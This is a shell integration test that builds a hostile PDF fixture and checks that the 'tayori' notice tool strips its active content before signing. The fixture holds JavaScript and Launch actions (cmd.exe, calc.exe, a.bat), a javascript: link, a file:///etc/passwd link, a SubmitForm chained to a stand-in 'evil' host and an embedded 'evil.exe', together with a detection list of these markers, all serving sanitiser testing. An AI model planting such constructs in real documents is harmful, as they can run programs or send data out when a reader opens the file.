#!/bin/sh
# tests/integration/inert.sh — issue 8, finding 6: no active content of a
# staff PDF reaches a resident.  A hostile PDF (written here by hand: page
# /AA JavaScript and Launch, a document /OpenAction, /Names /JavaScript and
# /EmbeddedFiles, catalog /AA, an XFA form, an outline Launch action,
# javascript: and file: links, a GoTo whose /Next chain runs JavaScript and
# SubmitForm, a form field's /AA, a file attachment annotation, a
# JavaScript action shared by every page) goes through `tayori submit` in
# each input form: one PDF split by pages, one PDF per resident named by
# key, one common PDF.  The notice a resident downloads (`tayori batch
# pdf`) is read with qpdf's JSON: nothing active is left, the https link
# and the internal GoTo link are, and the signature is valid (qpdf
# --check, pdfsig, mutool sign -v, tayori pdf verify).  The matching
# report lists what was removed, each kind once.  A clean PDF given whole
# is still signed as an update of its own bytes.
# Standards: ISO 32000-1 §12.6 (actions), §12.5.6 (annotations), §12.8.
. "$(dirname "$0")/lib.sh"
PY=/usr/bin/python3
D=$T/var

for tool in qpdf pdfsig mutool; do
	command -v "$tool" >/dev/null 2>&1 || { fail "the test needs $tool"; done_testing; exit 1; }
done

# hostile OUT NPAGES [clean]: a PDF whose every page carries active
# content (or, with "clean", the same text and links without it).
cat >"$T/hostile.py" <<'EOF'
import sys
out, npages, clean = sys.argv[1], int(sys.argv[2]), len(sys.argv) > 3
objs = {}
objs[10] = "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>"
objs[11] = "<< /S /JavaScript /JS (this.print\\(\\)) >>"
objs[12] = "<< /Type /Filespec /F (evil.exe) /EF << /F 13 0 R >> >>"
objs[13] = "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ!!\nendstream"
objs[14] = "<< /Type /Outlines /First 15 0 R /Last 15 0 R /Count 1 >>"
objs[15] = "<< /Title (Open) /Parent 14 0 R /A << /S /Launch /F (calc.exe) >> >>"
objs[16] = "<< /Length 10 >>\nstream\n<xdp:xdp/>\nendstream"
objs[17] = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
kids, fields = [], []
for p in range(npages):
    n = 100 + 20 * p
    kids.append(n)
    text = "BT /F1 14 Tf 40 700 Td (Notice page %d) Tj ET" % (p + 1)
    objs[n + 1] = "<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text)
    objs[n + 2] = "<< /Type /Annot /Subtype /Link /Rect [40 600 200 620] /A << /S /URI /URI (https://example.org/notice) >> >>"
    objs[n + 5] = "<< /Type /Annot /Subtype /Link /Rect [40 510 200 530] /A << /S /GoTo /D [%d 0 R /Fit] >> >>" % n
    annots = [n + 2, n + 5]
    if not clean:
        annots += [n + 3, n + 4, n + 6, n + 7, n + 8, n + 9]
        objs[n + 3] = "<< /Type /Annot /Subtype /Link /Rect [40 570 200 590] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
        objs[n + 4] = "<< /Type /Annot /Subtype /Link /Rect [40 540 200 560] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>"
        objs[n + 5] = ("<< /Type /Annot /Subtype /Link /Rect [40 510 200 530] /A << /S /GoTo /D [%d 0 R /Fit] "
                       "/Next [ << /S /JavaScript /JS (1) >> << /S /SubmitForm /F << /FS /URL /F (http://evil/) >> >> ] >> >>" % n)
        objs[n + 6] = "<< /Type /Annot /Subtype /Link /Rect [40 480 200 500] /A 10 0 R >>"
        objs[n + 7] = ("<< /Type /Annot /Subtype /Widget /FT /Tx /T (f%d) /Rect [40 440 200 460] /P %d 0 R "
                       "/AA << /K << /S /JavaScript /JS (event.rc=1) >> /Fo 11 0 R >> >>" % (p, n))
        fields.append(n + 7)
        objs[n + 8] = "<< /Type /Annot /Subtype /FileAttachment /Rect [40 400 60 420] /FS 12 0 R >>"
        objs[n + 9] = "<< /Type /Annot /Subtype /Link /Rect [40 370 200 390] /A << /S /URI /URI (file:///etc/passwd) >> /AA << /E 11 0 R >> >>"
    aa = "" if clean else " /AA << /O << /S /JavaScript /JS (app.launchURL\\('http://x'\\)) >> /C << /S /Launch /F (a.bat) >> >>"
    objs[n] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 17 0 R >> >> "
               "/Contents %d 0 R /Annots [%s]%s >>" % (n + 1, " ".join("%d 0 R" % a for a in annots), aa))
if clean:
    objs[1] = "<< /Type /Catalog /Pages 2 0 R /OpenAction [%d 0 R /Fit] >>" % kids[0]
else:
    objs[1] = ("<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >> /Outlines 14 0 R "
               "/Names << /JavaScript << /Names [(init) 11 0 R] >> /EmbeddedFiles << /Names [(evil.exe) 12 0 R] >> >> "
               "/AcroForm << /Fields [%s] /XFA 16 0 R >> >>" % " ".join("%d 0 R" % f for f in fields))
objs[2] = "<< /Type /Pages /Kids [%s] /Count %d >>" % (" ".join("%d 0 R" % k for k in kids), npages)
size = max(objs) + 1
b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
off = {}
for i in sorted(objs):
    off[i] = len(b)
    b += b"%d 0 obj\n%s\nendobj\n" % (i, objs[i].encode("latin-1"))
x = len(b)
b += b"xref\n0 %d\n0000000000 65535 f\r\n" % size
for i in range(1, size):
    b += (b"%010d 00000 n\r\n" % off[i]) if i in off else b"0000000000 65535 f\r\n"
b += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, x)
open(out, "wb").write(b)
EOF
hostile() { $PY "$T/hostile.py" "$@"; }

# inert NAME FILE NPAGES: what qpdf's JSON shows of the downloaded notice.
cat >"$T/inert.py" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
npages = int(sys.argv[2])
bad = ("/JavaScript", "/JS", "/Launch", "/AA", "/OpenAction", "/EmbeddedFiles", "/XFA",
       "/FileAttachment", "/SubmitForm", "/Next", "/Outlines")
found, uris, gotos = set(), [], 0
def walk(v):
    global gotos
    if isinstance(v, dict):
        for k, x in v.items():
            if k in bad:
                found.add(k)
            if k == "/URI" and isinstance(x, str):
                uris.append(x)
            walk(x)
    elif isinstance(v, list):
        for x in v:
            walk(x)
    elif isinstance(v, str):
        if v in bad:
            found.add(v)
        if v == "/GoTo":
            gotos += 1
        for s in ("javascript:", "file:", "evil.exe", "calc.exe", "cmd.exe"):
            if s in v.lower():
                found.add(s)
walk(d["qpdf"])
errs = []
if found:
    errs.append("still there: " + " ".join(sorted(found)))
if sorted(set(uris)) != ["u:https://example.org/notice"] or len(uris) != npages:
    errs.append("https links: %r" % uris)
if gotos != npages:
    errs.append("%d GoTo links, wanted %d" % (gotos, npages))
if errs:
    sys.exit("; ".join(errs))
EOF
inert() {
	_n=$1; _f=$2; _p=$3
	if qpdf --json "$_f" >"$T/$_n.qjson" 2>"$T/$_n.qerr"; then
		ok "$_n: qpdf --json reads the notice"
	else
		fail "$_n: qpdf --json reads the notice"; sed 's/^/#   /' "$T/$_n.qerr" | head -5
	fi
	check "$_n: no JavaScript, Launch, /AA, OpenAction, embedded file, XFA or /Next left; the https and GoTo links are" \
		$PY "$T/inert.py" "$T/$_n.qjson" "$_p"
}

# validate NAME FILE: one valid signature over the whole file.
validate() {
	_n=$1; _f=$2
	check "$_n: qpdf --check" qpdf --check "$_f"
	pdfsig "$_f" >"$T/pdfsig.out" 2>&1
	if grep -q 'Signature Validation: Signature is Valid.' "$T/pdfsig.out" && grep -q 'Total document signed' "$T/pdfsig.out"; then
		ok "$_n: pdfsig: valid, total document signed"
	else
		fail "$_n: pdfsig"; sed 's/^/#   /' "$T/pdfsig.out"
	fi
	mutool sign -v "$_f" >"$T/mutool.out" 2>&1
	if grep -q 'The document is unchanged since signing.' "$T/mutool.out" && ! grep -qi 'digest error\|not valid\|invalid' "$T/mutool.out"; then
		ok "$_n: mutool sign -v: unchanged since signing"
	else
		fail "$_n: mutool sign -v"; sed 's/^/#   /' "$T/mutool.out"
	fi
	check "$_n: tayori pdf verify" sh -c "'$TAYORI' pdf verify '$_f' | grep -q 'changed since: no'"
}

submit() {
	_n=$1; _d=$2; shift 2
	"$TAYORI" submit -d "$D" --json "$@" >"$T/$_n.json" 2>"$T/$_n.err"; _st=$?
	if [ $_st -eq 0 ]; then ok "$_d"; else fail "$_d (exit $_st)"; sed 's/^/#   /' "$T/$_n.json" "$T/$_n.err" | head -10; fi
	BID=$(jval "$T/$_n.json" 'd["batch"]')
}
pdf_of() { rm -f "$3"; "$TAYORI" batch pdf "$1" "$2" "$3" -d "$D" >"$T/pdf.err" 2>&1; }
csv() { printf '宛名番号,氏名,メールアドレス\r\n00010001,山田 一郎,a@example.jp\r\n00010002,山田 二郎,b@example.jp\r\n00010003,山田 三郎,c@example.jp\r\n'; }

check "init a demo tenant" "$TAYORI" init -d "$D" --demo

# --- 1. one PDF split by pages ------------------------------------------
mkdir -p "$T/sp"; hostile "$T/sp/notices.pdf" 3; csv >"$T/sp/list.csv"
printf '分割: 1ページ\n件名: テスト\n\n本文\n' >"$T/sp/message.txt"
submit sp "split: submit a hostile 3-page PDF split by pages" "$T/sp"
BSP=$BID
check "split: batch pdf extracts resident 00010002's notice" pdf_of "$BSP" 00010002 "$T/sp2.pdf"
inert "split" "$T/sp2.pdf" 1
validate "split" "$T/sp2.pdf"
jtrue "split: the report lists what was removed, aggregated over the 3 notices" "$T/sp.json" \
	'set(d["removed_active_content"]) == {"every notice: page 1: " + s + " (3 files)" for s in (
	"page /AA JavaScript action", "page /AA Launch action", "annotation JavaScript action",
	"annotation Launch action", "annotation non-http(s) URI action", "annotation /AA JavaScript action",
	"chained (/Next) JavaScript action", "chained (/Next) SubmitForm action", "FileAttachment annotation")}'
"$TAYORI" batch show "$BSP" -d "$D" --json >"$T/spshow.json" 2>&1
check "split: the stored report keeps the list" grep -q 'removed_active_content' "$T/spshow.json"

# --- 2. one PDF per resident, named by key --------------------------------
mkdir -p "$T/pf"
for k in 00010001 00010002 00010003; do hostile "$T/pf/$k.pdf" 2; done
csv >"$T/pf/list.csv"
submit pf "per-file: submit 3 hostile PDFs named by key" "$T/pf"
BPF=$BID
check "per-file: batch pdf extracts resident 00010003's notice" pdf_of "$BPF" 00010003 "$T/pf3.pdf"
inert "per-file" "$T/pf3.pdf" 2
validate "per-file" "$T/pf3.pdf"
check "per-file: both pages are kept" test "$(qpdf --show-npages "$T/pf3.pdf")" -eq 2
jtrue "per-file: the report lists the document's active content too" "$T/pf.json" \
	'{"every notice: document: " + s + " (3 files)" for s in ("OpenAction JavaScript action",
	"JavaScript name tree", "embedded files", "XFA form", "catalog /AA JavaScript action",
	"outline Launch action", "form field /AA JavaScript action")} <= set(d["removed_active_content"])'
jtrue "per-file: ... and the pages', each kind once" "$T/pf.json" \
	'"every notice: page 1: page /AA JavaScript action (3 files)" in d["removed_active_content"] and len(d["removed_active_content"]) == len(set(d["removed_active_content"])) == 16'
"$TAYORI" submit -d "$D" --again "$T/pf" >"$T/pf.txt" 2>&1
check "per-file: the text report says it too" grep -q 'every notice: document: OpenAction JavaScript action (3 files)' "$T/pf.txt"

# One hostile file among clean ones: named by its file.
mkdir -p "$T/pm"
hostile "$T/pm/00010001.pdf" 1 clean; hostile "$T/pm/00010002.pdf" 1; hostile "$T/pm/00010003.pdf" 1 clean
csv >"$T/pm/list.csv"
submit pm "per-file: one hostile PDF among clean ones" "$T/pm"
jtrue "per-file: the report names the one file" "$T/pm.json" \
	'"00010002.pdf: document: OpenAction JavaScript action" in d["removed_active_content"] and all(s.startswith("00010002.pdf: ") for s in d["removed_active_content"])'
check "per-file: the clean notice of 00010001 is extracted" pdf_of "$BID" 00010001 "$T/pm1.pdf"
validate "per-file clean" "$T/pm1.pdf"
check "per-file clean: signed as an update of the file as given (its bytes come first)" \
	cmp -n "$(wc -c <"$T/pm/00010001.pdf")" "$T/pm/00010001.pdf" "$T/pm1.pdf"
check "per-file clean: its destination /OpenAction is kept" sh -c "qpdf --show-object=1 '$T/pm1.pdf' | grep -q OpenAction"

# --- 3. one common PDF --------------------------------------------------
mkdir -p "$T/cm"; hostile "$T/cm/共通.pdf" 2; csv >"$T/cm/list.csv"
submit cm "common: submit a hostile 共通.pdf" "$T/cm"
BCM=$BID
check "common: batch pdf extracts resident 00010001's notice" pdf_of "$BCM" 00010001 "$T/cm1.pdf"
inert "common" "$T/cm1.pdf" 2
validate "common" "$T/cm1.pdf"
jtrue "common: the report names the common PDF" "$T/cm.json" \
	'"共通.pdf: document: OpenAction JavaScript action" in d["removed_active_content"] and "共通.pdf: page 1: page /AA JavaScript action" in d["removed_active_content"]'

# A file name with a terminal escape is shown with '?' in its place.
mkdir -p "$T/ce"; hostile "$T/ce/共通$(printf '\033')[31m.pdf" 1; csv >"$T/ce/list.csv"
"$TAYORI" submit -d "$D" "$T/ce" >"$T/ce.txt" 2>&1
check "common: a file name's escape never reaches the text report" sh -c "grep -q '共通?\[31m.pdf: document: OpenAction JavaScript action' '$T/ce.txt' && ! grep -q \"\$(printf '\033')\" '$T/ce.txt'"

# --- 4. a clean batch reports nothing -----------------------------------
mkdir -p "$T/cl"; hostile "$T/cl/notices.pdf" 3 clean; csv >"$T/cl/list.csv"
printf '分割: 1ページ\n\n本文\n' >"$T/cl/message.txt"
submit cl "clean: submit a clean PDF split by pages" "$T/cl"
jtrue "clean: nothing removed" "$T/cl.json" 'd["removed_active_content"] == []'
check "clean: batch pdf extracts resident 00010003's notice" pdf_of "$BID" 00010003 "$T/cl3.pdf"
inert "clean" "$T/cl3.pdf" 1

done_testing
